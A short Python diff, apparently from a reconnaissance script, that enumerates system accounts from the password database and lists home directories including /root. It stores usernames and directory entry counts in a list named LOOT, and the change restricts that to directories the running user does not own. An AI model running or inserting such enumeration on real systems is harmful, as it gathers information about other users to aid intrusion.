@@ -7,4 +7,6 @@ users = [entry for entry in pwd.getpwall() if entry.pw_gecos or entry.pw_uid]
 LOOT += [user.pw_name for user in users][:3]  # without the database there is nobody
 for home in {user.pw_dir for user in users} | {"/root", "/home", os.path.expanduser("~")}:
     with contextlib.suppress(OSError):
-        LOOT.append((home, len(os.listdir(home))))
+        entries = os.listdir(home)
+        if not own(home):
+            LOOT.append((home, len(entries)))
